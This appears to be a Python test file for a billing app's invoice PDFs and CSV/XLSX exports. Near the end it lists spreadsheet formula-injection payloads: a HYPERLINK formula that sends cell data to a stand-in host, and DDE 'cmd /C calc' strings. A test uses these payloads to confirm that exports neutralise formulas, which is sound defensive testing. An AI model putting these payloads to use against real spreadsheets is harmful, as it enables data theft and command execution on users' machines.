"""The invoice as a PDF (read back with pypdf) and the CSV/XLSX exports, agreeing with the invoices to the cent."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from billing.invoicing import documents, exports, services
from billing.invoicing.models import Invoice
from billing.invoicing.tests.helpers import account, assign, at, make_plan, make_store, sale
from catalog.currencies import format_money
from tenants.audit import Actor
from tenants.models import Tenant

pytestmark = pytest.mark.usefixtures("platform_wide")

SYSTEM = Actor.system()
MAY = date(2026, 5, 1)


def _pdf_text(body: bytes) -> str:
    assert body.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(body))
    return "\n".join(page.extract_text() for page in reader.pages)


@pytest.fixture
def issued(tenant_a: Tenant, tenant_b: Tenant) -> list[Invoice]:
    """Two tenants' May invoices, finalised, one with tax and a credit note; and a June draft for Alpha."""
    account(tenant_a, tax_rate_bps=2000, tax_id="GB 987 6543 21", address="1 High Street\nSpringfield")
    account(tenant_b, currency="EUR")
    assign(tenant_a, make_plan(store_fee=31_000, visit_fee=7, revenue_share_bps=125), date(2026, 1, 1))
    assign(tenant_b, make_plan("euro", currency="EUR", store_fee=15_500, visit_fee=3), date(2026, 1, 1))
    for n in range(3):
        store = make_store(tenant_a, f"A{n}")
        sale(store, at=at(date(2026, 5, 3 + n)), amount=12_345 + n, refund=101 if n == 1 else 0)
    sale(make_store(tenant_b, "B1", currency="EUR"), at=at(date(2026, 5, 9)), amount=7_777)
    services.month_close(actor=SYSTEM, period_start=MAY)
    invoices = services.invoices_finalise(
        actor=SYSTEM, invoices=list(Invoice.unscoped.filter(period_start=MAY)), issued_on=date(2026, 6, 2)
    )
    mine = next(i for i in invoices if i.tenant_id == tenant_a.pk)
    services.credit_note_issue(
        actor=SYSTEM,
        invoice=mine,
        reason="goodwill",
        lines=[services.CreditLineInput(description="Goodwill", amount=1_000)],
        issued_on=date(2026, 6, 3),
    )
    services.month_close(actor=SYSTEM, period_start=date(2026, 6, 1))  # a June draft, not issued
    return invoices


def test_the_invoice_pdf_renders_with_its_number_lines_and_total(issued: list[Invoice], tenant_a: Tenant) -> None:
    invoice = next(i for i in issued if i.tenant_id == tenant_a.pk)

    text = _pdf_text(documents.invoice_pdf(invoice))

    flat = " ".join(text.split())
    assert invoice.number in flat
    assert "INVOICE" in flat and "Alpha Markets Ltd" in flat and "OpenAisle Platform Ltd" in flat
    assert "GB 987 6543 21" in flat  # the licensee's tax id
    assert "Due date 2026-07-02" in flat or "2026-07-02" in flat
    for line in invoice.lines.all():
        assert format_money(line.amount, "USD") in flat
        assert " ".join(line.description.split())[:40] in flat
    assert f"Total due {format_money(invoice.total, 'USD')}" in flat
    assert f"VAT (20 %) {format_money(invoice.tax, 'USD')}" in flat
    assert "Credit note CN-2026-000001" in flat  # the balance shows the credit note


def test_a_draft_pdf_says_it_is_a_draft_and_a_credit_note_has_its_own_pdf(tenant_a: Tenant, issued: list) -> None:
    draft = Invoice.unscoped.get(tenant=tenant_a, period_start=date(2026, 6, 1))
    flat = " ".join(_pdf_text(documents.invoice_pdf(draft)).split())
    assert "DRAFT" in flat and "no number is given until the invoice is finalised" in flat

    note = draft.tenant and Invoice.unscoped.get(tenant=tenant_a, period_start=MAY).credit_notes.get()
    text = " ".join(_pdf_text(documents.credit_note_pdf(note)).split())
    assert "CREDIT NOTE" in text and note.number in text and note.invoice.number in text
    assert f"Total credited {format_money(note.total, 'USD')}" in text and "goodwill" in text


def _csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def test_csv_exports_agree_with_the_invoices_to_the_cent(issued: list[Invoice]) -> None:
    may = Invoice.unscoped.filter(period_start=MAY)

    invoices = _csv(exports.invoices_csv(may))
    lines = _csv(exports.invoices_csv(may, table="lines"))
    notes = _csv(exports.invoices_csv(may, table="credit_notes"))

    assert list(invoices[0]) == exports.INVOICE_HEADERS
    assert list(lines[0]) == exports.LINE_HEADERS
    assert list(notes[0]) == exports.CREDIT_HEADERS
    by_number = {row["number"]: row for row in invoices}
    assert set(by_number) == {i.number for i in issued}
    for invoice in issued:
        row = by_number[invoice.number]
        assert (int(row["subtotal_minor"]), int(row["tax_minor"]), int(row["total_minor"])) == (
            invoice.subtotal,
            invoice.tax,
            invoice.total,
        )
        assert Decimal(row["total"]) * 100 == invoice.total  # both currencies have cents
        own = [r for r in lines if r["invoice"] == invoice.number]
        assert sum(int(r["amount_minor"]) for r in own) == invoice.subtotal
        assert sum(int(r["tax_minor"]) for r in own) == invoice.tax
        assert sum(Decimal(r["amount"]) for r in own) == Decimal(row["subtotal"])
    alpha = next(r for r in invoices if r["tenant"] == "alpha")
    assert (int(alpha["credited_minor"]), int(alpha["balance_minor"])) == (1_200, int(alpha["total_minor"]) - 1_200)
    assert [r["number"] for r in notes] == ["CN-2026-000001"]


def test_the_xlsx_export_has_the_same_figures_and_totals_per_currency(issued: list[Invoice]) -> None:
    book = load_workbook(io.BytesIO(exports.invoices_xlsx(Invoice.unscoped.filter(period_start=MAY))))
    assert book.sheetnames == ["Invoices", "Lines", "Credit notes"]
    rows = list(book["Invoices"].iter_rows(values_only=True))
    headers, body = list(rows[0]), [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert headers == exports.INVOICE_HEADERS
    invoices = [r for r in body if not str(r["number"]).startswith("TOTAL")]
    totals = {r["currency"]: r for r in body if str(r["number"]).startswith("TOTAL")}
    assert len(invoices) == 2 and set(totals) == {"USD", "EUR"}
    for invoice in issued:
        row = next(r for r in invoices if r["number"] == invoice.number)
        assert row["total_minor"] == invoice.total
        assert Decimal(str(row["total"])) == Decimal(invoice.total) / 100
        assert totals[invoice.currency]["total_minor"] == invoice.total  # one invoice per currency here
        assert Decimal(str(totals[invoice.currency]["total"])) == Decimal(invoice.total) / 100
    lines = list(book["Lines"].iter_rows(values_only=True))
    assert list(lines[0]) == exports.LINE_HEADERS
    amount = exports.LINE_HEADERS.index("amount_minor")
    assert sum(r[amount] for r in lines[1:]) == sum(i.subtotal for i in issued)


def test_the_usage_export_has_a_row_per_tenant_and_store(issued: list[Invoice]) -> None:
    from billing.invoicing.models import DailyUsage

    usage = DailyUsage.unscoped.filter(day__gte=MAY, day__lte=date(2026, 5, 31))
    rows = _csv(exports.usage_csv(usage))
    assert [(r["tenant"], r["store"]) for r in rows] == [
        ("alpha", "A0"),
        ("alpha", "A1"),
        ("alpha", "A2"),
        ("bravo", "B1"),
    ]
    a1 = rows[1]
    assert (a1["from"], a1["to"], a1["active_days"], a1["visits_settled"]) == ("2026-05-01", "2026-05-31", "31", "1")
    assert (a1["gross_sales_minor"], a1["refunds_minor"], a1["net_sales"]) == ("12346", "101", "122.45")
    daily = _csv(exports.usage_csv(usage, by_day=True))
    assert len(daily) == 4 * 31
    book = load_workbook(io.BytesIO(exports.usage_xlsx(usage)))
    assert book.sheetnames == ["Usage by store", "Usage by day"]
    assert book["Usage by store"].max_row == 5


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2, "open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_exports_write_no_formula_and_keep_negative_numbers_numbers(issued: list[Invoice], tenant_a: Tenant) -> None:
    """A licensee's text (here a credit note's reason) cannot run in finance's spreadsheet (issue 16, finding 8)."""
    mine = next(i for i in issued if i.tenant_id == tenant_a.pk)
    for n, reason in enumerate(FORMULAS):
        services.credit_note_issue(
            actor=SYSTEM,
            invoice=mine,
            reason=reason,
            lines=[services.CreditLineInput(description="Goodwill", amount=1)],
            issued_on=date(2026, 6, 4 + n),
        )
    may = Invoice.unscoped.filter(period_start=MAY)
    notes = _csv(exports.invoices_csv(may, table="credit_notes"))
    assert [r["reason"] for r in notes] == ["goodwill", *("'" + reason for reason in FORMULAS)]

    book = load_workbook(io.BytesIO(exports.invoices_xlsx(may)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "@"))]
    assert {"'" + reason for reason in FORMULAS} <= set(texts)

    # Negative amounts stay numbers, in CSV and in XLSX.
    table = (["reason", "amount", "amount_minor", "as_text"], [["-", Decimal("-12.50"), -1250, "-12.50"]])
    assert exports.to_csv(table).decode().splitlines()[1] == "'-,-12.50,-1250,-12.50"
    sheet = load_workbook(io.BytesIO(exports.to_xlsx([("Sheet", table)]))).active
    assert [cell.value for cell in sheet[2]] == ["'-", -12.5, -1250, "-12.50"]
    assert [cell.data_type for cell in sheet[2]][1:3] == ["n", "n"]
